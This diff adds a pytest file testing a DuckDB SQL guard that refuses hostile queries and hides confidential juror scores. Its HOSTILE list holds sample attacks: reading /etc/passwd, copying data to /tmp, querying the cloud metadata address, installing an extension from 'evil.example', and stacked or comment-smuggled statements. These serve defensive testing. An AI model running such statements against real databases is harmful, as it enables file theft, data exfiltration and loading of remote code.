@@ -1,0 +1,326 @@
+"""The SQL guard: hostile statements are refused, no file changes or appears, no confidential score leaks."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from pathlib import Path
+
+import duckdb
+import pandas as pd
+import pytest
+
+from monitor import guard
+from monitor.db import ROOT, Database
+from monitor.sandbox import EXCLUDED, Sandbox, catalogue
+
+DEMO = ROOT / "data" / "demo"
+# applications whose scores are confidential, read straight from the CSV (not through the code under test)
+_apps = pd.read_csv(DEMO / "application.csv", dtype=str)
+NOT_SELECTED = sorted(_apps.loc[_apps["status"] != "selected", "application_id"])
+SELECTED = sorted(_apps.loc[_apps["status"] == "selected", "application_id"])
+
+HOSTILE = {
+    "file_read": [
+        "select * from read_csv('/etc/passwd')",
+        "select * from read_csv_auto('/etc/passwd')",
+        "select * from read_text('/etc/passwd')",
+        "select * from read_blob('/etc/passwd')",
+        "select * from glob('/etc/*')",
+        "select * from '/etc/passwd'",
+        'select * from "/etc/passwd"',
+        "select * from 'data/demo/score.csv'",
+        "from 'data/demo/score.csv'",
+        "select * from read_parquet('/tmp/x.parquet')",
+        "select * from parquet_scan('x.parquet')",
+        "select * from read_json('/etc/hosts')",
+        "select * from read_json_auto('scores.json')",
+        "select * from sniff_csv('/etc/passwd')",
+        "select * from parquet_metadata('x.parquet')",
+        "select content from read_text('data/monitor.duckdb')",
+        "select * from read_csv(['/etc/passwd', '/etc/hosts'])",
+        "with leak as (select * from read_csv('/etc/passwd')) select * from leak",
+        "select (select count(*) from read_text('/etc/passwd')) as n",
+        "select * from application where title in (select content from read_text('/etc/hostname'))",
+        "select * from application, read_csv('data/demo/score.csv') s",
+    ],
+    "file_write": [
+        "copy application to '/tmp/explorer_leak.csv'",
+        "copy (select * from score) to '/tmp/explorer_leak.parquet' (format parquet)",
+        "copy score from '/etc/passwd'",
+        "export database '/tmp/explorer_export'",
+    ],
+    "network": [
+        "select * from read_csv('https://example.com/x.csv')",
+        "select * from 'http://example.com/data.parquet'",
+        "select * from 'https://example.com/x.csv'",
+        "select * from read_parquet('s3://bucket/score.parquet')",
+        "select * from read_json('http://169.254.169.254/latest/meta-data/')",
+    ],
+    "attach": [
+        "attach '/tmp/explorer_other.duckdb' as other",
+        "attach 'data/monitor.duckdb' as main_db (read_only)",
+        "detach database main",
+        "use system",
+    ],
+    "extensions": [
+        "install httpfs",
+        "load httpfs",
+        "force install httpfs from 'http://evil.example'",
+        "select * from sqlite_scan('data/x.db', 'score')",
+    ],
+    "settings": [
+        "set enable_external_access = true",
+        "reset enable_external_access",
+        "pragma memory_limit = '100GB'",
+        "set python_enable_replacements = true",
+        "set variable leak = 1",
+        "call pragma_database_list()",
+        "pragma database_list",
+        "call duckdb_tables()",
+        "checkpoint",
+    ],
+    "ddl_dml": [
+        "create table t as select 1",
+        "create temp table t as select * from score",
+        "create view v as select * from score",
+        "create or replace table programme as select 1 as x",
+        "drop table score",
+        "alter table application add column x integer",
+        "insert into score values ('BW-20', 'im', 'buergernutzen', 10, false)",
+        "update application set status = 'selected'",
+        "delete from application",
+        "truncate score",
+        "create macro leak(x) as x",
+        "create secret leak (type s3, key_id 'a', secret 'b')",
+        "create sequence s",
+        "vacuum",
+        "begin transaction",
+        "pivot score on juror_id using sum(points)",
+        "explain analyze select * from score",
+    ],
+    "stacked_and_comments": [
+        "select 1; drop table score",
+        "select 1; attach '/tmp/explorer_other.duckdb'",
+        "select 1 /* ; */ ; copy score to '/tmp/explorer_leak.csv'",
+        "select 1 --\n; drop table score",
+        "/* harmless */ drop table score",
+        "-- select\ndelete from score",
+        "select 1;; select 2",
+        "SeLeCt 1; InStAlL httpfs",
+        "with x as (select 1) delete from score",
+    ],
+    "catalog": [
+        "select * from duckdb_tables()",
+        "select * from duckdb_databases()",
+        "select * from duckdb_columns()",
+        "select * from duckdb_settings()",
+        "select * from duckdb_functions()",
+        "select * from information_schema.tables",
+        "select * from information_schema.columns",
+        "select * from pg_catalog.pg_class",
+        "select * from sqlite_master",
+        "select current_setting('temp_directory')",
+        "select * from system.main.duckdb_tables",
+        "show databases",
+        "show all tables",
+        "select * from query('select * from score')",
+        "select * from query_table('score')",
+        "select * from monitor.main.score",
+    ],
+    "python_variables": [
+        "select * from secret_frame",
+        "select * from hostile_frames",
+        "select * from pd",
+    ],
+}
+# what each category is refused as (the catalogue message the user reads)
+EXPECTED = {
+    "file_read": {"file"}, "file_write": {"not_select"}, "network": {"network"}, "attach": {"not_select"},
+    "extensions": {"not_select", "file"}, "settings": {"not_select"}, "ddl_dml": {"not_select"},
+    "stacked_and_comments": {"multiple", "not_select"}, "catalog": {"catalog", "function", "table_function"},
+    "python_variables": {"unknown_table"},
+}
+CASES = [(category, sql) for category, statements in HOSTILE.items() for sql in statements]
+
+
+@pytest.fixture(autouse=True)
+def query_log(tmp_path, monkeypatch) -> Path:
+    """Every test logs to its own file."""
+    path = tmp_path / "queries.jsonl"
+    monkeypatch.setenv("MONITOR_QUERY_LOG", str(path))
+    return path
+
+
+def _sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_there_are_at_least_sixty_hostile_statements():
+    assert len(CASES) >= 60
+    assert len({sql for _, sql in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize(("category", "sql"), CASES, ids=[f"{c}-{i}" for i, (c, _) in enumerate(CASES)])
+def test_hostile_statement_is_refused(category, sql):
+    secret_frame = pd.DataFrame({"points": [99.5]})  # noqa: F841 - a local the query must not see
+    with pytest.raises(guard.Refusal) as caught:
+        guard.run(sql, role="analyse")
+    assert caught.value.code in EXPECTED[category]
+    message = caught.value.message(lang="de")
+    assert message.startswith("Abgelehnt")
+    assert "Traceback" not in message and "\n" not in message
+    assert "99.5" not in message
+
+
+def test_hostile_statements_change_no_file_and_create_none(shared_db, tmp_path):
+    guard.run("select 1 as warm_up", role="analyse")  # the analysis copy exists before the snapshot
+    sandbox = Sandbox.path()
+    watched = [shared_db, sandbox]
+    before = {p: _sha(p) for p in watched}
+    # the databases' folder is private to the test session; other folders are shared with parallel work, so the
+    # targets the statements name are checked one by one below
+    listing = {d: sorted(p.name for p in d.iterdir()) for d in {shared_db.parent}}
+    for _, sql in CASES:
+        with pytest.raises(guard.Refusal):
+            guard.run(sql, role="analyse")
+    assert {p: _sha(p) for p in watched} == before
+    assert {d: sorted(p.name for p in d.iterdir()) for d in listing} == listing
+    for leak in ("/tmp/explorer_leak.csv", "/tmp/explorer_leak.parquet", "/tmp/explorer_export", "/tmp/explorer_other.duckdb"):
+        assert not Path(leak).exists()
+
+
+def test_runtime_layer_refuses_on_its_own():
+    """Without the statement check, the copy's locked connection still refuses files, settings and writes."""
+    hostile_frame = pd.DataFrame({"x": [1]})  # noqa: F841 - must not be scanned
+    cur = Sandbox.cursor()
+    try:
+        for sql, error in [
+            ("select * from read_csv('/etc/passwd')", duckdb.PermissionException),
+            ("select * from read_text('/etc/passwd')", duckdb.PermissionException),
+            ("copy application to '/tmp/explorer_leak.csv'", duckdb.PermissionException),
+            ("attach '/tmp/explorer_other.duckdb'", duckdb.PermissionException),
+            ("load httpfs", duckdb.PermissionException),
+            ("set enable_external_access = true", duckdb.InvalidInputException),
+            ("set python_enable_replacements = true", duckdb.InvalidInputException),
+            ("create table t as select 1", duckdb.InvalidInputException),
+            ("delete from application", duckdb.InvalidInputException),
+            ("select * from hostile_frame", duckdb.CatalogException),
+        ]:
+            with pytest.raises(error):
+                cur.execute(sql).fetchall()
+        settings = dict(cur.execute(
+            "select name, value from duckdb_settings() where name in ('enable_external_access', "
+            "'lock_configuration', 'python_enable_replacements', 'autoload_known_extensions', 'threads')"
+        ).fetchall())
+    finally:
+        cur.close()
+    assert settings == {"enable_external_access": "false", "lock_configuration": "true",
+                        "python_enable_replacements": "false", "autoload_known_extensions": "false", "threads": "1"}
+
+
+def test_scores_of_applications_not_selected_are_absent():
+    # 9 selected applications x 5 jurors x 6 criteria = 270 score rows (data/demo/score.csv has 1050)
+    rows = guard.run("select * from score", role="analyse").frame
+    assert len(rows) == 270
+    assert sorted(rows["application_id"].unique()) == SELECTED
+    outputs = [
+        guard.run("select application_id, sum(points) as points from score group by all", role="analyse").frame,
+        guard.run("select s.*, a.status from score s join application a using (application_id) "
+                  "where a.status <> 'selected'", role="analyse").frame,
+        guard.run("select count(*) as n from score where is_recused", role="analyse").frame,
+        guard.run("summarize score", role="analyse").frame,
+    ]
+    assert len(outputs[1]) == 0
+    # recusals: 6 rows of selected applications in the demo data (24 in all)
+    assert outputs[2]["n"].iloc[0] == 6
+    text = " ".join(frame.to_csv() for frame in outputs)
+    assert not any(app_id in text for app_id in NOT_SELECTED)
+
+
+def test_other_tables_keep_every_row():
+    assert guard.run("select count(*) as n from application", role="analyse").frame["n"].iloc[0] == 42
+    assert guard.run("select count(*) as n from payment", role="analyse").frame["n"].iloc[0] == 25
+    # the confidential scores are still in the main database: only the copy lacks them
+    cur = Database.cursor()
+    try:
+        assert cur.execute("select count(*) from score").fetchall()[0][0] == 1050
+    finally:
+        cur.close()
+
+
+def test_runaway_query_is_interrupted_and_the_next_one_works(query_log):
+    with pytest.raises(guard.Refusal) as caught:
+        guard.run("select sum(a.range * b.range) as s from range(1000000) a, range(1000000) b",
+                  role="analyse", time_limit=0.5)
+    assert caught.value.code == "timeout"
+    assert "Zeitlimit" in caught.value.message(lang="de")
+    assert guard.run("select 42 as answer", role="analyse").frame["answer"].tolist() == [42]
+    entries = [json.loads(line) for line in query_log.read_text().splitlines()]
+    assert [(e["refused"], e["reason"]) for e in entries] == [(True, "timeout"), (False, None)]
+
+
+def test_row_cap_truncates_with_notice():
+    result = guard.run("select range as n from range(50)", role="analyse", max_rows=10)
+    assert result.truncated
+    assert result.frame["n"].tolist() == list(range(10))
+    assert not guard.run("select range as n from range(10)", role="analyse", max_rows=10).truncated
+
+
+def test_every_query_is_logged_with_hash_and_outcome(query_log):
+    sql = "select kind, count(*) as payment_count from payment group by kind"
+    guard.run(sql, role="analyse", source="sql")
+    with pytest.raises(guard.Refusal):
+        guard.run("drop table score", role="admin", source="cli")
+    first, second = [json.loads(line) for line in query_log.read_text().splitlines()]
+    assert first["role"] == "analyse" and first["source"] == "sql"
+    assert first["sql_sha256"] == hashlib.sha256(sql.encode()).hexdigest()
+    assert first["rows"] == 2 and first["refused"] is False and first["reason"] is None
+    assert isinstance(first["duration_ms"], int) and "at" in first
+    assert second["role"] == "admin" and second["refused"] is True and second["reason"] == "not_select"
+    assert "drop" not in query_log.read_text().lower()  # the log holds hashes, not the SQL
+
+
+def test_errors_show_one_line_without_traceback_or_paths():
+    with pytest.raises(guard.Refusal) as caught:
+        guard.run("select no_such_column from payment", role="analyse")
+    message = caught.value.message(lang="de")
+    assert caught.value.code == "error"
+    assert message.startswith("Die Abfrage konnte nicht ausgeführt werden")
+    assert "no_such_column" in message
+    assert "Traceback" not in message and "\n" not in message and str(ROOT) not in message
+
+
+def test_safe_statements_run():
+    assert guard.run("with p as (select * from payment) select count(*) as n from p", role="analyse") \
+        .frame["n"].iloc[0] == 25
+    assert len(guard.run("select * from range(3)", role="analyse").frame) == 3
+    assert len(guard.run("describe payment", role="analyse").frame) == 7
+
+
+def test_copy_follows_changes_of_the_main_database(fresh_db):
+    old = Sandbox.path()
+    cur = Database.cursor()
+    try:
+        cur.execute("insert into payment values ('Z-TEST', 'DM-01', date '2023-03-01', 1234.00, 'abschlag', null, null)")
+    finally:
+        cur.close()
+    Database.changed()
+    new = Sandbox.path()
+    assert new != old and not old.exists()
+    assert guard.run("select count(*) as n from payment", role="analyse").frame["n"].iloc[0] == 26
+    Sandbox.close_all()
+
+
+def test_every_schema_column_is_described_or_excluded(shared_db):
+    """A new table or column stays out of the analysis copy until it is described (or excluded on purpose)."""
+    cur = Database.cursor(shared_db)
+    try:
+        columns = cur.execute("select table_name, column_name from information_schema.columns "
+                              "where table_schema = 'main'").fetchall()
+    finally:
+        cur.close()
+    described = {(table, column) for table, cols in catalogue().items() for column in cols}
+    missing = [f"{t}.{c}" for t, c in columns
+               if (t, c) not in described and t not in EXCLUDED and f"{t}.{c}" not in EXCLUDED]
+    assert missing == [], f"in monitor/texts/explorer_columns.toml beschreiben: {missing}"
